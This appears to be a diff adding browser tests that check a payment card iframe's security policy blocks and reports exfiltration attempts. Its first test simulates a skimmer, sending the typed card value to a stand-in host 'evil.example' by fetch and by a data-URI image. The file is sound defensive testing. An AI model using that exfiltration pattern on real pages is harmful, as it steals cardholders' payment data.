@@ -1,0 +1,61 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { cardFrame, typeCard } from './card-fields.ts';
+import { merchantScene } from './merchant-scene.ts';
+
+describe("what the frame's policy stops, in Chromium", () => {
+  const scene = merchantScene();
+
+  test('is told to the page by its directive and its origin, without a digit of what was to go out', async (t) => {
+    const page = await scene.open(t);
+    await typeCard(page);
+    await cardFrame(page)
+      .locator('form')
+      .evaluate(async (form) => {
+        const { value } = form.querySelector('input') as HTMLInputElement;
+        await fetch(`https://evil.example/${value}?card=${value}#${value}`).catch(() => {});
+        const image = document.createElement('img');
+        image.src = `data:image/png;base64,${value}`;
+        form.append(image);
+        try {
+          form.setAttribute('onfocusin', 'void 0');
+        } catch {
+          // Strings do not become scripts here.
+        }
+      });
+    await page.waitForFunction(() => window.events.filter(([name]) => name === 'violation').length >= 3);
+    const told = await page.evaluate(() => window.events.filter(([name]) => name === 'violation'));
+    // Which is heard of first is the browser's affair.
+    const byDirective = told.map(([, violation]) => JSON.stringify(violation)).toSorted();
+    assert.deepEqual(byDirective, [
+      '{"directive":"connect-src","blocked":"https://evil.example"}',
+      '{"directive":"img-src","blocked":"data"}',
+      '{"directive":"require-trusted-types-for","blocked":"trusted-types-sink"}',
+    ]);
+  });
+
+  test('is told of twenty times and no more', async (t) => {
+    const page = await scene.open(t);
+    await cardFrame(page)
+      .locator('form')
+      .evaluate(async () => {
+        for (let count = 0; count < 30; count++)
+          await fetch(`https://evil-${count}.example/`).catch(() => {});
+      });
+    await page.waitForFunction(() => JSON.stringify(window.events).includes('evil-19.example'));
+    await cardFrame(page).locator('#name').press('Enter');
+    await page.waitForFunction(() => window.events.some(([name]) => name === 'submit'));
+    const told = await page.evaluate(() => window.events.filter(([name]) => name === 'violation').length);
+    assert.equal(told, 20);
+  });
+
+  test('is nothing while a card is typed and paid with', async (t) => {
+    const page = await scene.open(t);
+    await typeCard(page);
+    const { client_secret } = await scene.shop.session();
+    const { status } = await page.evaluate((secret) => window.card.confirm(secret), client_secret);
+    assert.equal(status, 'succeeded');
+    const told = await page.evaluate(() => window.events.filter(([name]) => name === 'violation'));
+    assert.deepEqual(told, []);
+  });
+});
